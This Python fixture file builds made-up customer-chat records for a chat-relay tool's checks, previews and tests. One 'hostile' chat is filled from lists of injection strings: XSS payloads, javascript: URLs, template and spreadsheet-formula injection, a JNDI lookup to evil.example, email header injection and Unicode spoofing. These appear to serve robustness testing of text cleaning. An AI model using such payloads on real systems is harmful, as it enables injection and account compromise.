"""Made-up chats of every kind, for `relay check`, previews and tests."""

from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from functools import cache
from types import MappingProxyType

from msgspec.structs import replace

from relay.chat import Author, Chat, Message, Page, Variable, Visitor
from relay.text import clean, clean_line

_BEGAN = datetime(2025, 11, 21, 13, 5, 12, tzinfo=UTC)

HOSTILE_TEXTS = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "</td></table></body></html><h1>gone</h1>",
    '" onmouseover="alert(1)" x="',
    "&lt;b&gt; &amp;amp; &#34; &nbsp",
    "{{ 7*7 }}{% for a in range(9) %}x{% endfor %}{# no #}",
    "<!channel> <@U1> <https://evil.example|bank.example> *bold* `code`",
    "[click](javascript:alert(1)) <at>everyone</at>",
    "first line\r\nBcc: everybody@example.com\n\nRating: 5 of 5\x00\x1b[31m",
    "\u202egnp.exe\u2066\ud800 \U0001f469\u200d\U0001f469\u200d\U0001f467 e\u0301\u0301\u0301",
    "]]> --> */ =cmd|' /C calc'!A0 ${jndi:ldap://evil.example/a} %s %n %(x)s",
)
HOSTILE_URLS = (
    "javascript:alert(1)",
    'https://a.example/"><script>',
    "https://bank.example@evil.example/",
    "//evil.example",
    "data:text/html,x",
    "https://\u0430pple.example/",
    "https://a.example/" + "a" * 1_900,
)


@cache
def made_up_chats() -> Mapping[str, Chat]:
    """Return the made-up chats by name, cleaned as if read from a hook."""
    return MappingProxyType(
        {
            "finished": _finished(),
            "badly_rated": _badly_rated(),
            "missed": _missed(),
            "missed_after_an_answer": _missed_after_an_answer(),
            "offline": _offline(),
            "vip": _vip(),
            "automatic_only": _automatic_only(),
            "account_and_id_only": Chat(account="208", id="910108"),
            "no_visitor_name": _no_visitor_name(),
            "hostile": _hostile(),
            "very_long": _very_long(),
            "other_scripts": _other_scripts(),
        }
    )


def _post(author: Author, at: float, text: str, name: str = "", trigger: str = "") -> Message:
    """Return a message sent `at` seconds after the chat's beginning."""
    sent_at = _BEGAN + timedelta(seconds=at)
    return Message(author=author, name=name, text=text, sent_at=sent_at, trigger=trigger)


def _visitor(at: float, text: str, name: str = "") -> Message:
    return _post(Author.VISITOR, at, text, name)


def _agent(at: float, text: str, name: str = "Jana") -> Message:
    return _post(Author.AGENT, at, text, name)


def _system(at: float, code: str, name: str = "Jana") -> Message:
    return _post(Author.SYSTEM, at, code, name)


def _chat(number: int, visitor: Visitor, *messages: Message) -> Chat:
    sent = [message.sent_at for message in messages if message.sent_at]
    answered = any(message.author is Author.AGENT for message in messages)
    return Chat(
        account="208",
        id=str(910100 + number),
        began=_BEGAN,
        ended=sent[-1],
        missed=False,
        offline=False,
        dropped=False,
        completed=answered,
        triggered=any(message.trigger for message in messages),
        answered_chat=answered,
        duration=sent[-1] - _BEGAN,
        message_count=len(messages),
        word_count=sum(len(message.text.split()) for message in messages),
        visitor=visitor,
        messages=messages,
        pages=_PAGES,
    )


_PAGES = (
    Page(url="https://shop.example.com/", title="Home"),
    Page(url="https://shop.example.com/shoes/green?size=42", title="Green shoes, size 42"),
)


MARTA = Visitor(
    id="88120",
    name="Marta Nowak",
    email="marta.nowak@example.com",
    group="sales",
    ip="192.0.2.17",
    city="Kraków",
    country_code="PL",
    country="Poland",
    platform="Win32",
    user_agent="Mozilla/5.0",
    referer="https://www.example.org/search?q=green+shoes",
    variables=MappingProxyType(
        {
            "plan": Variable(label="Plan", value="basic"),
            "cartValue": Variable(label="Cart value", value=1290),
            "returning": Variable(label="Returning customer", value=True),
        }
    ),
)


def _finished() -> Chat:
    chat = _chat(
        1,
        MARTA,
        _visitor(0, "Hi, do you have the green shoes in size 42?"),
        _system(9, "agent.join"),
        _agent(21, "Hello Marta, we do. Two pairs are left, shall I keep one for you?"),
        _visitor(55, "Yes please! I'll order tonight"),
        _agent(70, "Done, it is yours until Sunday."),
        _visitor(82, "Great, thank you"),
        _system(90, "close.visitorClose", "Marta Nowak"),
    )
    return replace(
        chat,
        rating=5,
        rating_comment="Quick and kind",
        first_response=timedelta(seconds=21),
        average_response=timedelta(seconds=18),
    )


def _badly_rated() -> Chat:
    chat = _chat(
        2,
        replace(MARTA, name="José Álvarez", email="jose.alvarez@example.net", country_code="ES"),
        _visitor(0, "Where is my order 551?"),
        _system(170, "agent.join"),
        _agent(180, "Let me look, one moment please."),
        _visitor(400, "??"),
        _agent(790, "I can't find it, please write to us by email."),
        _system(800, "close.agentClose"),
    )
    first = timedelta(seconds=180)
    return replace(
        chat, rating=1, rating_comment="Waited ages and got no answer", first_response=first
    )


def _missed() -> Chat:
    chat = _chat(
        3,
        MARTA,
        _visitor(0, "Hi, do you have the green shoes in size 42?"),
        _visitor(90, "Anyone there? I'd like to order today"),
        _visitor(240, "ok, bye :("),
        _system(245, "close.visitorClose", "Marta Nowak"),
    )
    return replace(chat, missed=True)


def _missed_after_an_answer() -> Chat:
    chat = _chat(
        4,
        replace(MARTA, email="marta at example"),
        _visitor(0, "Hello"),
        _agent(12, "Hello, how can I help?"),
        _visitor(40, "Can I return shoes that I bought in your shop in Brno?"),
        _system(45, "agent.leave"),
        _system(4_000, "close.timeout", ""),
    )
    return replace(chat, missed=True)


def _offline() -> Chat:
    text = (
        "Buenos días,\n¿me pueden enviar un presupuesto para 40 sillas & 10 mesas?\nGracias, José"
    )
    visitor = Visitor(name="José Álvarez", email="jose.alvarez@example.net", country_code="ES")
    return replace(_chat(5, visitor, _visitor(0, text)), offline=True, duration=timedelta(0))


def _vip() -> Chat:
    visitor = replace(
        MARTA, name="Petr Dvořák", email="petr@example.cz", note="VIP: key account, call Jana first"
    )
    chat = _chat(
        6,
        visitor,
        _visitor(0, "I need the invoice again"),
        _agent(25, "Sent, Petr."),
        _visitor(31, "ok"),
    )
    return replace(chat, rating=3)


def _automatic_only() -> Chat:
    return _chat(
        7,
        Visitor(id="7"),
        _post(Author.AUTOMATIC, 0, "Hello! Can we help you to choose?", trigger="After a minute"),
        _visitor(30, "How much is delivery to Ireland?"),
        _post(Author.AUTOMATIC, 32, "We'll be with you soon.", trigger="Busy"),
    )


def _no_visitor_name() -> Chat:
    visitor = Visitor(email="someone@example.com")
    chat = _chat(
        8,
        visitor,
        _visitor(0, "Do you ship to Malta?"),
        _agent(30, "We do.", ""),
        _system(60, "x.y"),
    )
    return replace(chat, messages=(*chat.messages, Message(author=Author.UNKNOWN, text="?")))


def _hostile() -> Chat:
    everything = " ".join(HOSTILE_TEXTS)
    line, text = clean_line(everything), clean(everything)
    huge = ("x" * 100_000, "&" * 100_000, "e" + "\u0301" * 50_000)
    texts = (*(clean(hostile) for hostile in HOSTILE_TEXTS), *huge)
    messages = [_visitor(place, hostile, line) for place, hostile in enumerate(texts)]
    closed = _system(205, "close.visitorClose", line)
    messages += [_agent(200, text, line), closed, _system(210, text)]
    return replace(
        _chat(9, _hostile_visitor(line, text), *messages),
        account=line[:100],
        id=line[:100],
        rating=-3,
        rating_comment=text,
        began=datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC),
        ended=datetime(1, 1, 1, tzinfo=UTC),
        duration=timedelta(seconds=-5),
        first_response=timedelta.max,
        pages=tuple(Page(url=url, title=line) for url in HOSTILE_URLS * 3),
    )


def _hostile_visitor(line: str, text: str) -> Visitor:
    return Visitor(
        id=line,
        name=line,
        email='"><script>alert(1)</script>"@evil.example',
        note=text,
        group=line,
        ip=line,
        city=line,
        country_code=line,
        country=line,
        platform=line,
        user_agent=line,
        referer="javascript:alert(1)",
        variables={
            "items": Variable(label=line, value=text),
            "": Variable(label=": :", value="x\ny: z"),
            "__class__": Variable(label="Rating: 5 of 5 Bcc", value="values"),
        },
    )


def _very_long() -> Chat:
    questions = (
        "And in blue?",
        "What would delivery cost to Gdańsk, and how long does it take?",
        "Thanks!",
    )
    messages = [
        _agent(place * 41, f"Answer {place}: yes, we have that as well.")
        if place % 2
        else _visitor(place * 41, f"Question {place}: {questions[place // 2 % 3]}")
        for place in range(300)
    ]
    return _chat(10, MARTA, *messages)


def _other_scripts() -> Chat:
    visitor = Visitor(
        name="田中 花子",
        email="hanako@example.jp",
        country_code="JP",
        note="常連のお客様",
        variables={"city": Variable(label="Город", value="Київ")},
    )
    chat = _chat(
        11,
        visitor,
        _visitor(0, "こんにちは、注文番号は12345です。"),
        _agent(20, "Здравствуйте! Одну минуту, пожалуйста.", "Олена"),
        _visitor(40, "مرحبا، أين طلبي رقم 551؟"),
        _agent(60, "שלום, ההזמנה בדרך.", "נועה"),
        _visitor(80, "ขอบคุณค่ะ 🙏🏽 नमस्ते"),
    )
    return replace(chat, rating=4.5, rating_comment="とても親切")
